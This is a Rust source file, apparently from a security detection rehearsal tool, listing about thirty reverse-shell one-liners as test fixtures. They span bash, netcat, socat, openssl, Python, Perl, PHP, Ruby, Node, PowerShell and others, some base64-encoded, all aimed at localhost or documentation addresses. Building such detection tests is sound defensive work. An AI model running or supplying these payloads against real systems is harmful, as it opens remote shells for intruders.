//! Reverse shells as they are found in cheat sheets and incident reports, by their arguments. Interpreters and tools are
//! stand-ins that ignore them; bash and busybox are real and find a closed port of their own machine.

use super::{Act, KeyNeeds, KeyRehearsal};

const KEY: &str = "proc.reverse_shell_command";

/// One line, run as it stands.
const fn line(
    name: &'static str,
    description: &'static str,
    needs: KeyNeeds,
    argv: &'static [&'static str],
) -> KeyRehearsal {
    KeyRehearsal {
        key: KEY,
        name,
        description,
        needs,
        by_content: false,
        act: Act::Try(argv),
    }
}

pub(super) const REVERSE_SHELL_COMMAND: &[KeyRehearsal] = &[
    line(
        "line-bash-tcp",
        "bash on /dev/tcp",
        KeyNeeds::BASH,
        &["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"],
    ),
    line(
        "line-bash-196",
        "bash with a numbered descriptor",
        KeyNeeds::BASH,
        &[
            "bash",
            "-c",
            "0<&196;exec 196<>/dev/tcp/127.0.0.1/9; sh <&196 >&196 2>&196",
        ],
    ),
    line(
        "line-bash-read-line",
        "bash that runs line by line",
        KeyNeeds::BASH,
        &[
            "bash",
            "-c",
            "exec 5<>/dev/tcp/127.0.0.1/9; cat <&5 | while read line; do $line 2>&5 >&5; done",
        ],
    ),
    line(
        "line-bash-udp",
        "bash on /dev/udp",
        KeyNeeds::BASH,
        &[
            "bash",
            "-c",
            "sh -i >& /dev/udp/127.0.0.1/9 0>&1 < /dev/null",
        ],
    ),
    line(
        "line-bash-encoded",
        "an encoded line for bash",
        KeyNeeds::BASH,
        &[
            "bash",
            "-c",
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMjcuMC4wLjEvOSAwPiYx|base64 -d|bash",
        ],
    ),
    line(
        "line-bash-braces",
        "an encoded line for bash, without blanks",
        KeyNeeds::BASH,
        &[
            "bash",
            "-c",
            "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMjcuMC4wLjEvOSAwPiYx}|{base64,-d}|{bash,-i}",
        ],
    ),
    line(
        "line-nc-e",
        "netcat with a shell",
        KeyNeeds::BUSYBOX,
        &["nc", "-e", "/bin/sh", "127.0.0.1", "9"],
    ),
    line(
        "line-nc-c",
        "OpenBSD's netcat in a script with a named pipe",
        KeyNeeds::BUSYBOX,
        &[
            "sh",
            "-c",
            "rm -f /tmp/g;mkfifo /tmp/g;cat /tmp/g|sh -i 2>&1|nc.openbsd 127.0.0.1 9 >/tmp/g",
        ],
    ),
    line(
        "line-busybox-nc",
        "busybox's netcat with a shell",
        KeyNeeds::BUSYBOX,
        &["busybox", "nc", "127.0.0.1", "9", "-e", "sh"],
    ),
    line(
        "line-ncat-e",
        "ncat with a shell",
        KeyNeeds::NOTHING,
        &["ncat", "203.0.113.9", "4444", "-e", "/bin/bash"],
    ),
    line(
        "line-ncat-ssl",
        "ncat over TLS",
        KeyNeeds::NOTHING,
        &["ncat", "--ssl", "203.0.113.9", "443", "-c", "/bin/sh"],
    ),
    line(
        "line-telnet-fifo",
        "telnet and a named pipe",
        KeyNeeds::BUSYBOX,
        &[
            "sh",
            "-c",
            "rm -f /tmp/h;mkfifo /tmp/h; telnet 127.0.0.1 9 0</tmp/h | sh 1>/tmp/h",
        ],
    ),
    line(
        "line-socat-exec",
        "socat with a shell",
        KeyNeeds::NOTHING,
        &["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh"],
    ),
    line(
        "line-socat-pty",
        "socat with a shell on a terminal",
        KeyNeeds::NOTHING,
        &[
            "socat",
            "exec:'bash -li',pty,stderr,setsid,sigint,sane",
            "tcp:203.0.113.9:4444",
        ],
    ),
    line(
        "line-openssl",
        "openssl and a named pipe",
        KeyNeeds::BUSYBOX,
        &[
            "sh",
            "-c",
            "mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:9 > /tmp/s; rm /tmp/s",
        ],
    ),
    line(
        "line-python-dup2",
        "Python with dup2",
        KeyNeeds::NOTHING,
        &[
            "python3",
            "-c",
            r#"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])"#,
        ],
    ),
    line(
        "line-python-pty",
        "Python with a terminal",
        KeyNeeds::NOTHING,
        &[
            "python",
            "-c",
            r#"import os,pty,socket;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")"#,
        ],
    ),
    line(
        "line-python-environment",
        "Python with the address in variables",
        KeyNeeds::NOTHING,
        &[
            "python3",
            "-c",
            r#"import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")"#,
        ],
    ),
    line(
        "line-python-encoded",
        "Python with an encoded script",
        KeyNeeds::NOTHING,
        &[
            "python3",
            "-c",
            "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTI3LjAuMC4xIiw5KSk7W29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXTtwdHkuc3Bhd24oInNoIik='))",
        ],
    ),
    line(
        "line-perl-open",
        "Perl with open",
        KeyNeeds::NOTHING,
        &[
            "perl",
            "-e",
            r#"use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#,
        ],
    ),
    line(
        "line-perl-io-socket",
        "Perl without a shell in its arguments",
        KeyNeeds::NOTHING,
        &[
            "perl",
            "-MIO",
            "-e",
            r#"$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"#,
        ],
    ),
    line(
        "line-php-exec",
        "PHP with exec",
        KeyNeeds::NOTHING,
        &[
            "php",
            "-r",
            r#"$sock=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");"#,
        ],
    ),
    line(
        "line-php-proc-open",
        "PHP with proc_open",
        KeyNeeds::NOTHING,
        &[
            "php",
            "-r",
            r#"$s=fsockopen("203.0.113.9",4444);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);"#,
        ],
    ),
    line(
        "line-ruby-exec",
        "Ruby with exec",
        KeyNeeds::NOTHING,
        &[
            "ruby",
            "-rsocket",
            "-e",
            r#"f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#,
        ],
    ),
    line(
        "line-ruby-popen",
        "Ruby without a shell in its arguments",
        KeyNeeds::NOTHING,
        &[
            "ruby",
            "-rsocket",
            "-e",
            r#"exit if fork;c=TCPSocket.new("203.0.113.9","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end"#,
        ],
    ),
    line(
        "line-node",
        "Node.js",
        KeyNeeds::NOTHING,
        &[
            "node",
            "-e",
            r#"(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"203.0.113.9",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();"#,
        ],
    ),
    line(
        "line-lua",
        "Lua",
        KeyNeeds::NOTHING,
        &[
            "lua",
            "-e",
            r#"require("socket");require("os");t=socket.tcp();t:connect("203.0.113.9","4444");os.execute("/bin/sh -i <&3 >&3 2>&3");"#,
        ],
    ),
    line(
        "line-awk",
        "awk with its own network streams",
        KeyNeeds::NOTHING,
        &[
            "gawk",
            r#"BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}"#,
        ],
    ),
    line(
        "line-tcl",
        "Tcl",
        KeyNeeds::NOTHING,
        &[
            "tclsh",
            "-c",
            r#"set s [socket 203.0.113.9 4444];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;"#,
        ],
    ),
    line(
        "line-go",
        "Go, written and run at once",
        KeyNeeds::NOTHING,
        &[
            "sh",
            "-c",
            r#"echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","203.0.113.9:4444");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go"#,
        ],
    ),
    line(
        "line-zsh",
        "zsh's own sockets",
        KeyNeeds::NOTHING,
        &[
            "zsh",
            "-c",
            "zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
        ],
    ),
    line(
        "line-groovy",
        "Groovy",
        KeyNeeds::NOTHING,
        &[
            "groovy",
            "-e",
            r#"Process p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();Socket s=new Socket("203.0.113.9",4444);InputStream pi=p.getInputStream(),si=s.getInputStream();OutputStream po=p.getOutputStream(),so=s.getOutputStream();"#,
        ],
    ),
    line(
        "line-powershell",
        "PowerShell",
        KeyNeeds::NOTHING,
        &[
            "pwsh",
            "-NoP",
            "-NonI",
            "-W",
            "Hidden",
            "-Exec",
            "Bypass",
            "-Command",
            r#"$client = New-Object System.Net.Sockets.TCPClient("203.0.113.9",4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Write($sendback,0,$sendback.Length)}"#,
        ],
    ),
];
